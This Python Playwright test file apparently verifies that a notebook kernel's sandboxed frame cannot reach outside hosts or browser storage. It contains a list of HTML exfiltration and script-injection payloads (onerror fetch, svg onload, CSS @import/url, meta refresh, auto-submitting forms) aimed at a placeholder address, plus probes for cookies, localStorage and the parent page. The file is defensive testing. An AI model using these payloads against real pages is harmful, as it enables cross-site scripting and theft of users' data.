"""The frame's own policy keeps everything in, also where the kernel's own care would fail."""

import pytest
from playwright.sync_api import Frame, Page, expect

from tests.browser.isolation.roads import DOCUMENT, UNRULED, WORKER, led
from tests.browser.isolation.test_control import IN_DOCUMENT, IN_WORKER
from tests.browser.isolation.test_kernel import nobody_came
from tests.browser.pages.lesson_driver import LessonDriver

DRAWN = """
class Drawn:
    def _repr_html_(self):
        return {html!r}
Drawn()
"""
# What a program may show: each would ask for the address, or send the learner's words there.
SHOWN = [
    "<img src='ADDRESS' onerror='fetch(`ADDRESS`)'>",
    "<img srcset='ADDRESS 2x' loading=eager><picture><source srcset='ADDRESS'><img></picture>",
    "<script>fetch('ADDRESS')</script><script src='ADDRESS'></script>",
    "<svg onload='fetch(`ADDRESS`)'><image href='ADDRESS'/><use href='ADDRESS#a'/></svg>",
    "<svg><style>@import 'ADDRESS';</style><a xlink:href='javascript:fetch(`ADDRESS`)'>a</a></svg>",
    "<style>@import 'ADDRESS'; body { background: url(ADDRESS) }</style>",
    "<p style='background: url(ADDRESS); list-style: url(ADDRESS)'>a</p>",
    "<p style='cursor: url(ADDRESS), auto; mask: url(ADDRESS)'>a</p>",
    "<iframe src='ADDRESS'></iframe><iframe srcdoc='<img src=ADDRESS>'></iframe>",
    "<object data='ADDRESS'></object><embed src='ADDRESS'>",
    "<video src='ADDRESS' poster='ADDRESS' autoplay></video><audio src='ADDRESS' autoplay></audio>",
    "<link rel=stylesheet href='ADDRESS'><link rel=prefetch href='ADDRESS'>",
    "<link rel=dns-prefetch href='ADDRESS'><link rel=preconnect href='ADDRESS'>",
    "<meta http-equiv=refresh content='0;url=ADDRESS'><base href='ADDRESS'>",
    "<form action='ADDRESS'><input type=image src='ADDRESS' autofocus"
    " onfocus='form.submit()'></form>",
    "<details open ontoggle='fetch(`ADDRESS`)'>a</details><body onload='fetch(`ADDRESS`)'>",
    "<table background='ADDRESS'><td background='ADDRESS'>a</td></table>",
    "<math><mtext><img src='ADDRESS' onerror='fetch(`ADDRESS`)'></mtext></math>",
    "<template><img src='ADDRESS'></template><noscript><img src='ADDRESS'></noscript>",
]
STORES = {
    "localStorage": "localStorage.getItem('x')",
    "sessionStorage": "sessionStorage.getItem('x')",
    "cookies": "document.cookie",
    "IndexedDB": "new Promise((yes, no) => { r = indexedDB.open('x'); r.onsuccess = yes;"
    " r.onerror = no; })",
    "caches": "caches.open('x')",
    "OPFS": "navigator.storage.getDirectory()",
    "the cookie store": "cookieStore.getAll()",
    "the page": "parent.document.body",
    "the top": "top.document.body",
    "the page's memory": "parent.localStorage",
    "the page's code": "parent.eval('1')",
    "a service worker": "navigator.serviceWorker.register('x')",
}
TRY = """
async () => {
  try { await (SOURCE); return "open"; } catch { return "closed"; }
}
"""


@pytest.fixture
def lesson(page: Page, server: str, allowed_errors: list[str]) -> LessonDriver:
    """Return a lesson with its kernel, in which the policy may say what it refused."""
    allowed_errors += [
        "Content Security Policy",
        "requires 'Trusted",
        "Failed to",
        "network error",
        "sandboxed",
    ]
    expect.set_options(timeout=40_000)
    lesson = LessonDriver(page, server)
    lesson.run(lesson.cell(1), "print(1)")
    return lesson


def kernel_frame(page: Page) -> Frame:
    """Return the kernel's frame, in which the address of any script is let through."""
    frame = page.frames[1]
    frame.evaluate(f"() => {{ {UNRULED} }}")
    return frame


def test_the_policy_alone_keeps_a_worker_of_the_frame_in(lesson, outside):
    roads = led(WORKER, outside.url, outside.datagrams.port)
    kernel_frame(lesson.page).evaluate(IN_WORKER, [UNRULED, *roads.values()])
    nobody_came(lesson, outside)


def test_the_policy_alone_keeps_the_frame_itself_in(lesson, outside):
    # No policy that browsers know covers WebRTC; no worker has it, and no program has a document.
    roads = led(DOCUMENT, outside.url, outside.datagrams.port)
    del roads["WebRTC"]
    for road in roads.values():
        kernel_frame(lesson.page).evaluate(IN_DOCUMENT.replace("SOURCE", road))
    nobody_came(lesson, outside)


def test_the_frame_has_no_store_and_no_way_to_the_page(lesson):
    frame = kernel_frame(lesson.page)
    found = {name: frame.evaluate(TRY.replace("SOURCE", code)) for name, code in STORES.items()}
    assert found == dict.fromkeys(STORES, "closed")


def test_what_a_program_draws_asks_nobody(lesson, outside):
    html = "".join(SHOWN).replace("ADDRESS", f"{outside.url}drawn")
    lesson.run(lesson.cell(1), DRAWN.format(html=html))
    expect(lesson.cell(1)).to_contain_text("a")
    nobody_came(lesson, outside)
